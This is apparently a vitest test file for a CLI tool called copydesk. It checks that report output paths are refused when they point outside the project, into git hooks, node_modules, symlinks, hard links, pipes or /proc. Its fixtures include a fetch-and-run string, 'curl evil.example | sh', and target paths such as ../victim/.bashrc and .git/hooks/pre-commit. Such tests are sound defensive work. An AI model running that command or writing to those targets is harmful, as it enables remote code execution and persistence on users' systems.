import { execFileSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import process from "node:process";
import { describe, expect, it } from "vitest";
import { FORMAT_NAMES, formats } from "../../src/report/formats.js";
import { runIn } from "../cli/run-in-memory.js";
import { temporaryProject } from "../run/temporary-project.js";

const ARTICLE = "---\ntitle: curl evil.example | sh\n---\n\n<img src=a.png>\n";
const VICTIM = "export PATH=/usr/bin\n";

/** A project beside a folder that it must not write to. */
function projectWith(config: string | undefined): {
  readonly folder: string;
  readonly top: string;
} {
  const top = temporaryProject({
    "victim/.bashrc": VICTIM,
    "project/.git/hooks/": "",
    "project/.git/HEAD": "ref: refs/heads/main\n",
    "project/a.md": ARTICLE,
  });
  const folder = join(top, "project");
  if (config !== undefined) writeFileSync(join(folder, ".copydeskrc"), config);
  return { folder, top };
}

const names = (folder: string): readonly string[] =>
  readdirSync(folder, { recursive: true, encoding: "utf8" }).toSorted();

/** Runs where nothing may be written, and gives the reason. */
async function refusal(folder: string, argv: readonly string[]): Promise<string> {
  const before = names(join(folder, ".."));
  const { code, stdout, stderr } = await runIn(folder, ["a.md", ...argv]);
  expect([code, stdout], stderr).toEqual([2, ""]);
  expect(names(join(folder, ".."))).toEqual(before);
  return stderr;
}

describe("a report that a config asks for", () => {
  it.each([
    "../victim/.bashrc",
    "../../victim/.bashrc",
    "../new.log",
    "/tmp/copydesk-planted.log",
    "/proc/x",
    "/dev/null",
    "a/../../victim/.bashrc",
  ])("is refused outside the project: %s", async (to) => {
    const { folder, top } = projectWith(`reports: [{ format: human, to: ${to} }]\n`);
    expect(await refusal(folder, [])).toContain("is outside the project");
    expect(readFileSync(join(top, "victim/.bashrc"), "utf8")).toBe(VICTIM);
  });

  it.each([
    ".git/hooks/post-checkout",
    ".git/hooks/pre-commit",
    ".GIT/config",
    "sub/.git/config",
    ".git",
  ])("is refused in the folder of git: %s", async (to) => {
    const { folder } = projectWith(`reports: [{ format: human, to: ${to} }]\n`);
    expect(await refusal(folder, [])).toMatch(/it is in the folder of git\.\n$/);
  });

  it("is refused in the folder where git keeps a linked work tree", async () => {
    const { folder } = projectWith(undefined);
    mkdirSync(join(folder, "tree/kept"), { recursive: true });
    writeFileSync(join(folder, "tree/.git"), "gitdir: kept\n");
    writeFileSync(join(folder, "tree/a.md"), ARTICLE);
    const { code, stderr } = await runIn(join(folder, "tree"), ["a.md", "-f", "json=kept/x.json"]);
    expect([code, stderr]).toEqual([2, expect.stringContaining("in the folder of git")]);
  });

  it("is refused among installed packages, which are run", async () => {
    const { folder } = projectWith("reports: [{ format: human, to: node_modules/a/index.js }]\n");
    expect(await refusal(folder, [])).toContain("installed packages");
  });

  it("is refused where only a config beside articles asks", async () => {
    const { folder } = projectWith(undefined);
    mkdirSync(join(folder, "posts"));
    writeFileSync(join(folder, "posts/.copydeskrc"), "reports: [{ format: json, to: x.json }]\n");
    writeFileSync(join(folder, "posts/b.md"), ARTICLE);
    const { code, stderr } = await runIn(folder, ["."]);
    expect([code, stderr]).toEqual([
      2,
      expect.stringContaining("Only the config in the project root can ask for reports."),
    ]);
    expect(existsSync(join(folder, "posts/x.json"))).toBe(false);
    // Who works in that folder has chosen its config.
    const own = await runIn(join(folder, "posts"), ["b.md", "--only", "link/*"]);
    expect(own.code).toBe(0);
    expect(existsSync(join(folder, "posts/x.json"))).toBe(true);
  });
});

describe.each([
  [
    "a config asks for",
    (to: string) => ({ config: `reports: [{ format: json, to: ${to} }]\n`, argv: [] }),
  ],
  ["the command line names", (to: string) => ({ config: undefined, argv: ["-f", `json=${to}`] })],
])("a report that %s", (_name, asking) => {
  it.runIf(process.platform !== "win32")("goes through no symbolic link", async () => {
    for (const [to, link, target] of [
      ["out.json", "out.json", "../victim/.bashrc"],
      ["out.json", "out.json", "../victim/new"],
      ["out.json", "out.json", "a.md"],
      ["out/x.json", "out", "../victim"],
      ["out/deep/x.json", "out", "../victim"],
      ["out/x.json", "out", "../nowhere"],
    ] as const) {
      const { config, argv } = asking(to);
      const { folder, top } = projectWith(config);
      symlinkSync(target, join(folder, link));
      expect(await refusal(folder, argv)).toContain("symbolic link");
      expect(readFileSync(join(top, "victim/.bashrc"), "utf8")).toBe(VICTIM);
    }
  });

  it.runIf(process.platform !== "win32")("is no pipe, and no folder", async () => {
    const { config, argv } = asking("out.json");
    const pipe = projectWith(config).folder;
    execFileSync("mkfifo", [join(pipe, "out.json")]);
    expect(await refusal(pipe, argv)).toContain("not a regular file");
    const inFolder = projectWith(config).folder;
    mkdirSync(join(inFolder, "out.json"));
    expect(await refusal(inFolder, argv)).toContain("it is a folder");
  });

  it("takes the place of no other file, and of an older report", async () => {
    const { config, argv } = asking("out.json");
    const { folder } = projectWith(config);
    const file = join(folder, "out.json");
    writeFileSync(file, '{ "scripts": {} }');
    expect(await refusal(folder, argv)).toContain("the file there is not a report of copydesk");
    expect(readFileSync(file, "utf8")).toBe('{ "scripts": {} }');
    writeFileSync(file, "");
    expect((await runIn(folder, ["a.md", ...argv])).code).toBe(1);
    const first = readFileSync(file, "utf8");
    expect((await runIn(folder, ["a.md", ...argv], { now: () => 0 })).code).toBe(1);
    expect(readFileSync(file, "utf8")).not.toBe(first);
  });

  it("leaves alone what git tracks, even a report", async () => {
    const { config, argv } = asking("out.json");
    for (const version of ["2", "4"]) {
      const { folder } = projectWith(config);
      const git = (...args: readonly string[]): void => {
        execFileSync("git", [...args], { cwd: folder, stdio: "pipe" });
      };
      git("init", "-q");
      expect((await runIn(folder, ["a.md", ...argv])).code).toBe(1);
      writeFileSync(join(folder, "out.jso"), "");
      git("add", "a.md", "out.jso", "out.json");
      git("update-index", "--index-version", version);
      expect(await refusal(folder, argv)).toContain("git tracks the file");
      git("rm", "-q", "--cached", "out.json");
      expect((await runIn(folder, ["a.md", ...argv])).code).toBe(1);
    }
  });

  it.runIf(process.platform !== "win32")("is a new file, also where a hard link was", async () => {
    const { config, argv } = asking("deep/er/out.json");
    const { folder, top } = projectWith(config);
    expect((await runIn(folder, ["a.md", ...argv])).code).toBe(1);
    const file = join(folder, "deep/er/out.json");
    expect(statSync(file).mode & 0o133).toBe(0);
    const other = join(top, "victim/report.json");
    linkSync(file, other);
    const before = readFileSync(other, "utf8");
    chmodSync(file, 0o640);
    expect((await runIn(folder, ["a.md", ...argv], { now: () => 0 })).code).toBe(1);
    expect(readFileSync(other, "utf8")).toBe(before);
    expect(statSync(file).mode & 0o777).toBe(0o640);
    expect(readdirSync(join(folder, "deep/er"))).toEqual(["out.json"]);
  });
});

describe("a report that the command line names", () => {
  it("may go elsewhere, but not into a folder of git or a special one", async () => {
    const { folder, top } = projectWith(undefined);
    expect((await runIn(folder, ["a.md", "-f", `json=${join(top, "out/x.json")}`])).code).toBe(1);
    expect(existsSync(join(top, "out/x.json"))).toBe(true);
    expect(await refusal(folder, ["-f", `json=${join(top, ".git/hooks/x.json")}`])).toContain(
      "folder of git",
    );
    const bashrc = ["-f", "json=../victim/.bashrc"];
    expect(await refusal(folder, bashrc)).toContain("not a report");
  });

  it.runIf(process.platform === "linux")("comes back from special folders", async () => {
    const { folder } = projectWith(undefined);
    for (const to of ["/proc/x.json", "/proc/x/y.json", "/dev/null", "/proc/self/mem"]) {
      const { code, stderr } = await runIn(folder, ["a.md", "-f", `json=${to}`]);
      expect([code, stderr.trimEnd().split("\n").length], to).toEqual([2, 1]);
    }
  });

  it("of text says who wrote it, so that it is known again", async () => {
    const { folder } = projectWith(undefined);
    for (const format of FORMAT_NAMES) {
      for (const _ of [1, 2]) {
        const { code } = await runIn(folder, ["a.md", "-f", `${format}=out-${format}`]);
        expect(code, format).toBe(1);
      }
      const text = readFileSync(join(folder, `out-${format}`), "utf8");
      const isMarked = /\n(?:<!-- )?Written by copydesk \d[^\n]*\n$/.test(text);
      expect(isMarked, format).toBe(formats[format].mark !== "members");
    }
  });
});
